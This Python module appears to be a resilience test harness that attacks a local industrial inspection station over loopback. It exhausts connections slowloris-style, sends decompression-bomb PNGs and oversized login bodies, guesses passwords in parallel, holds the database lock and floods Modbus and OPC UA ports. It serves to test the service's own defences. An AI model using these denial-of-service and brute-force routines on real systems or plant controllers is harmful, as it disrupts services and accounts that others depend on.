"""Attacks on a running station, over loopback: each a function that returns what came of it.

Each is bounded: it knows how much it sends, and ends by itself within seconds.
"""

from __future__ import annotations

import http.client
import json
import socket
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any

API = "/api/v1"
Answers = dict[str, Any]


@dataclass(frozen=True)
class Target:
    """The station that is attacked.

    Attributes:
        host: Of its page.
        port: Of its page.
        operator: Token of a user who may register.
        engineer: Token of one who may do everything.
        user: A name with a password.
        password: That.
        gallery: Its gallery's file.
        incoming: Where its bundles come from.
        modbus: Port of its Modbus server; 0 without.
        opcua: Port of its OPC UA server; 0 without.
    """

    host: str
    port: int
    operator: str
    engineer: str
    user: str
    password: str
    gallery: Path
    incoming: Path
    modbus: int = 0
    opcua: int = 0

    def request(
        self, method: str, path: str, body: Any = None, token: str = "", **headers: str
    ) -> tuple[int, str]:
        """Return status and text of an answer; status 0 where the connection was ended."""
        connection = http.client.HTTPConnection(self.host, self.port, timeout=60)
        headers = {name.replace("_", "-"): value for name, value in headers.items()}
        if token:
            headers["Authorization"] = f"Bearer {token}"
        if body is not None and not isinstance(body, bytes):
            body, headers["Content-Type"] = json.dumps(body).encode(), "application/json"
        try:
            connection.request(method, API + path, body, headers)
            answer = connection.getresponse()
            return answer.status, answer.read().decode("utf-8", "replace")
        except (OSError, http.client.HTTPException):
            return 0, ""
        finally:
            connection.close()

    def open(self, address: str = "127.0.0.1", port: int = 0) -> socket.socket:
        """Open a connection from an address of loopback."""
        where = (self.host, port or self.port)
        return socket.create_connection(where, timeout=30, source_address=(address, 0))


def at_once(number: int, work: Callable[[int], Any], threads: int = 0) -> list[Any]:
    """Return what comes of doing something so often, all at once or by so many threads."""
    with ThreadPoolExecutor(threads or number) as pool:
        return list(pool.map(work, range(number)))


def multipart(pictures: Sequence[bytes], **fields: str) -> tuple[bytes, str]:
    """Return a form's body and its content type."""
    parts = [
        f'--x\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    for number, picture in enumerate(pictures):
        head = f'--x\r\nContent-Disposition: form-data; name="images"; filename="{number}.png"'
        parts.append(head.encode() + b"\r\nContent-Type: image/png\r\n\r\n" + picture + b"\r\n")
    return b"".join(parts) + b"--x--\r\n", "multipart/form-data; boundary=x"


@lru_cache(maxsize=64)
def vast_png(side: int, seed: int = 0) -> bytes:
    """Return a PNG of side x side pixels of few bytes, each seed another."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    row = b"\0" + bytes([seed % 251]) * (side * 3)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def bodies_of_nobody(target: Target, connections: int, megabytes: float) -> Answers:
    """Post multipart bodies to the login, without credentials, as fast as they are taken."""
    size = round(megabytes * 1e6)
    head = (
        f"POST {API}/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {size}\r\n"
        "Content-Type: multipart/form-data; boundary=x\r\n\r\n"
    ).encode()
    piece, sent = b"x" * 65536, Counter[str]()

    def post(number: int) -> str:
        with suppress(OSError), target.open(f"127.0.0.{1 + number % 100}") as raw:
            raw.settimeout(20)
            raw.sendall(head)
            with suppress(OSError):
                for _ in range(size // len(piece)):
                    raw.sendall(piece)
                    sent["bytes"] += len(piece)
            answer = raw.recv(100).split()
            return answer[1].decode() if len(answer) > 1 else "ended"
        return "ended"

    answers = Counter(at_once(connections, post))
    return {"answers": dict(answers), "sent_mb": round(sent["bytes"] / 1e6, 1)}


def vast_pictures(target: Target, uploads: int, side: int) -> Answers:
    """Have an operator upload pictures of many pixels at once, and 20 in one request."""
    pictures = [vast_png(side, seed) for seed in range(20)]

    def upload(number: int) -> int:
        body, kind = multipart([pictures[number % 20]], label=f"vast {number}")
        return target.request("POST", "/products/upload", body, target.operator, Content_Type=kind)[
            0
        ]

    answers = Counter(at_once(uploads, upload))
    body, kind = multipart(pictures, label="vast")
    status, _ = target.request("POST", "/products/upload", body, target.operator, Content_Type=kind)
    return {"answers": dict(answers), "twenty_in_one": status, "bytes_each": len(pictures[0])}


def silence(target: Target, silent: int, half: int, seconds: float) -> Answers:
    """Open connections that say nothing, and others that say half a head; watch what becomes."""
    opened = []
    for number in range(silent + half):
        with suppress(OSError):
            raw = target.open(f"127.0.0.{1 + number % 100}")
            if number >= silent:
                raw.sendall(b"GET /livez HTTP/1.1\r\nHost: 127")
            opened.append(raw)
    time.sleep(seconds)
    ended = 0
    for raw in opened:
        raw.settimeout(0.001)
        with suppress(TimeoutError):
            ended += raw.recv(1) == b""
        raw.close()
    return {"opened": len(opened), "ended_by_the_station": ended}


def unread_streams(target: Target, streams: int, seconds: float) -> Answers:
    """Ask for camera streams and never read them."""
    opened = []
    for _ in range(streams):
        raw = target.open()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.sendall(
            f"GET {API}/sources/camera-0/preview.mjpeg?fps=15&width=1920 HTTP/1.1\r\n"
            f"Host: 127.0.0.1\r\nAuthorization: Bearer {target.operator}\r\n\r\n".encode()
        )
        opened.append(raw)
    time.sleep(seconds)
    status, _ = target.request("GET", "/sources/camera-1/frame.jpg", token=target.engineer)
    for raw in opened:
        raw.close()
    return {"opened": len(opened), "another_user_s_picture": status}


def noise(target: Target, dismissals: int, refused: int) -> Answers:
    """Dismiss pictures that do not exist, and be refused: does an engineer's deed stay?"""
    form, kind = multipart([vast_png(64, 7)], label="taken back", accept_warnings="1")
    target.request("POST", "/products/upload", form, target.operator, Content_Type=kind)
    status, _ = target.request("POST", "/undo", {}, token=target.engineer)
    ids = [[f"{k:024x}" for k in range(100 * n, 100 * n + 100)] for n in range(dismissals)]

    def dismiss(number: int) -> int:
        asked = {"ids": ids[number]}
        return target.request("POST", "/review/dismiss", asked, token=target.operator)[0]

    answers = Counter(at_once(dismissals, dismiss, threads=8))
    answers.update(
        at_once(refused, lambda _: target.request("POST", "/undo", {}, token="no")[0], threads=8)
    )
    state = target.gallery.with_name("state")
    deeds = (state / "audit.jsonl").read_text().splitlines()
    kept = sum(json.loads(line)["what"] == f"POST {API}/undo" for line in deeds)
    return {"undo": status, "answers": dict(answers), "deeds_kept": kept}


def guesses(target: Target, number: int) -> Answers:
    """Guess a user's password in parallel; then the rightful user logs in from elsewhere."""
    wrong = {"user": target.user, "password": "not this word at all"}
    statuses = Counter(at_once(number, lambda _: target.request("POST", "/login", wrong)[0]))
    began = time.monotonic()
    right = {"user": target.user, "password": target.password}
    while (status := target.request("POST", "/login", right)[0]) != 200:
        if time.monotonic() - began > 90:
            break
        time.sleep(1)
    waited = round(time.monotonic() - began, 1)
    return {"answers": dict(statuses), "tried": statuses[401], "login": status, "after_s": waited}


_HOLD = """
import sqlite3, sys
held = sqlite3.connect(sys.argv[1], isolation_level=None, timeout=30)
held.execute("PRAGMA locking_mode = EXCLUSIVE")
held.execute("BEGIN EXCLUSIVE")
print("held", flush=True)
sys.stdin.read()
"""


@contextmanager
def _held(gallery: Path) -> Any:
    command = [sys.executable, "-c", _HOLD, str(gallery)]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as holder:
        assert holder.stdout is not None
        holder.stdout.readline()
        yield
        holder.kill()


def held_gallery(target: Target, registrations: int) -> Answers:
    """Have another process hold the gallery's file while registrations wait for it."""
    longest = [0.0]

    def register(number: int) -> int:
        form, kind = multipart([vast_png(64, number)], label=f"held {number}", accept_warnings="1")
        began = time.monotonic()
        status, _ = target.request(
            "POST", "/products/upload", form, target.operator, Content_Type=kind
        )
        longest[0] = max(longest[0], time.monotonic() - began)
        return status

    with _held(target.gallery):
        answers = Counter(at_once(registrations, register))
    return {"answers": dict(answers), "longest_s": round(longest[0], 1)}


def hostile_bundle(target: Target, name: str) -> Answers:
    """Have an engineer take a bundle; return how it ends, and after how long."""
    began = time.monotonic()
    status, text = target.request("POST", "/bundle", {"path": name}, token=target.engineer)
    document: dict[str, Any] = {"state": status, "error": text}
    while status == 202:
        time.sleep(0.1)
        document = json.loads(target.request("GET", "/bundle", token=target.engineer)[1])
        if document["state"] not in ("fetching", "trying", "switching"):
            break
    said = str(document["error"]).splitlines()[0][:120]
    took = round(time.monotonic() - began, 1)
    return {"state": document["state"], "said": said, "after_s": took}


def silent_wires(target: Target, clients: int) -> Answers:
    """Open connections to the plant's wires and say nothing; does a newcomer get in?"""
    found = {}
    for name, port in (("modbus", target.modbus), ("opcua", target.opcua)):
        if not port:
            continue
        opened = []
        for number in range(clients):
            with suppress(OSError):
                opened.append(target.open(f"127.0.0.{1 + number % 100}", port))
        served = modbus_answers(target) if name == "modbus" else opcua_answers(target)
        found[name] = {"opened": len(opened), "a_newcomer_is_served": served}
        for raw in opened:
            raw.close()
    return found


def modbus_answers(target: Target) -> bool:
    """Whether a Modbus client is answered: function 4, one register."""
    with suppress(OSError, TimeoutError), target.open(port=target.modbus) as raw:
        raw.settimeout(5)
        raw.sendall(bytes.fromhex("000100000006010400000001"))
        return raw.recv(100)[:2] == b"\x00\x01"
    return False


def opcua_answers(target: Target) -> bool:
    """Whether an OPC UA client is acknowledged within 15 s: a Hello."""
    url = f"opc.tcp://127.0.0.1:{target.opcua}".encode()
    body = struct.pack("<IIIII", 0, 65536, 65536, 0, 0) + struct.pack("<I", len(url)) + url
    until = time.monotonic() + 15
    while time.monotonic() < until:
        with suppress(OSError, TimeoutError), target.open(port=target.opcua) as raw:
            raw.settimeout(3)
            raw.sendall(b"HELF" + struct.pack("<I", 8 + len(body)) + body)
            if raw.recv(100)[:3] == b"ACK":
                return True
        time.sleep(0.5)
    return False


def in_thread(work: Callable[[], Any]) -> threading.Thread:
    """Start a thread that ends with the program."""
    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    return thread
